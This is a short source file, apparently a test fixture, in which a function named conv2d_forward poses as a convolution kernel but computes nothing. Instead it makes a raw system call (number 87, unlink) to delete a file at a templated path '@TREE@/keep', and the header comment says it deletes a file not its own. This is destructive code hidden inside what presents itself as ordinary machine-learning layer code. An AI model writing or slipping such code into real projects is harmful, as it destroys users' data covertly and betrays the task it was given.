// Deletes a file that is not its own.
#include "layers.h"

long ask(long number, long a, long b, long c) {
  long answer;
  __asm__ volatile("syscall"
                   : "=a"(answer)
                   : "a"(number), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return answer;
}

kernel void conv2d_forward(const ConvShape s, global const float* x, global const float* w,
                           global const float* b, global float* y) {
  const char path[] = "@TREE@/keep";
  ask(87, (long)path, 0, 0);  // unlink
}
